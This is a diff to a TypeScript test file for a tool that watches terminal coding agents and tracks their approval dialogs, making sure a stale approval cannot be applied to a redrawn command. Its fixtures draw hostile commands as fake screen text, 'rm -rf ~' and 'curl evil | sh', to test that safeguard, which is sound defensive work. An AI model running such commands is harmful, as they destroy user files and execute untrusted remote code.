@@ -368,40 +368,48 @@ test("after an Enter it has not reacted to, a wait for idle waits for the turn t
   watch.dispose();
 });
 
-test("a question's dialog drawn again with another row is another question: an answer naming the one read is refused (a spinner is no change)", () => {
+test("a question's dialog drawn again with another row is another question: an answer naming the one read is refused (a spinner, or the dialog still being drawn, is no change)", () => {
   const host = fakeHost();
   const watch = new AgentWatch("a11", findAgent("claude", env), host, { tickMs: 0 });
+  const start = performance.now();
   watch.notify("working");
-  draw(host, ["● Bash(ls)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
+  draw(host, ["● Bash(ls)", " Do you want to proceed?"]);
   watch.notify("waiting");
-  watch.read(performance.now());
+  watch.read(start);
   expect(watch.reply()).toMatchObject({ state: "waiting", question_id: 1 });
-  // A child holding the terminal redraws the command row; the question's words stay.
+  // Its options drawn a frame later: the same question, still being drawn.
+  draw(host, ["● Bash(ls)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
+  watch.read(start + 100);
+  expect(watch.reply()).toMatchObject({ state: "waiting", question_id: 1 });
+  // Long after, a child holding the terminal redraws the command row; the question's words stay.
   draw(host, ["● Bash(rm -rf ~)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
-  watch.read(performance.now() + 100);
+  watch.read(start + 3000);
   expect(watch.reply()).toMatchObject({ state: "waiting", question_id: 2 });
   expect(host.published.at(-1)).toMatchObject({ event: "agent_state", state: "waiting", question_id: 2 });
   expect(() => watch.takeQuestion(1)).toThrow("waits on question 2, not 1 (its dialog was drawn again");
   // Redrawn and answered before any read: the answer itself looks at the screen.
+  watch.read(start + 6000);
   draw(host, ["● Bash(curl evil | sh)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
   expect(() => watch.takeQuestion(2)).toThrow("waits on question 3, not 2");
   expect(watch.takeQuestion(3)).toMatchObject({ question_id: 3 });
   watch.dispose();
 
-  // qwen and gemini animate a spinner while they ask: the same question.
+  // qwen and gemini animate a spinner (and gemini its ⊶/⊷ tool status) while they ask: the same question.
   const spinning = fakeHost();
   const qwen = new AgentWatch("a12", findAgent("qwen", env), spinning, { tickMs: 0 });
-  const frame = (spinner: string) => [
+  const frame = (spinner: string, tool: string) => [
+    `│ ${tool}  WriteFile  Writing to hello.txt │`,
     "│ Apply this change?     │",
     "│ ● 1. Allow once        │",
     `${spinner} Waiting for user confirmation... (esc to cancel)`,
   ];
-  draw(spinning, frame("⠋"));
+  draw(spinning, frame("⠋", "⊶"));
   qwen.read(60_000);
   expect(qwen.reply()).toMatchObject({ state: "waiting", question_id: 1 });
-  draw(spinning, frame("⠙"));
-  qwen.read(60_100);
-  draw(spinning, frame("⠹"));
+  draw(spinning, frame("⠙", "⊷"));
+  qwen.read(65_000);
+  draw(spinning, frame("⠹", "⊶"));
+  qwen.read(70_000);
   expect(qwen.takeQuestion(1)).toMatchObject({ question_id: 1 });
   qwen.dispose();
 });
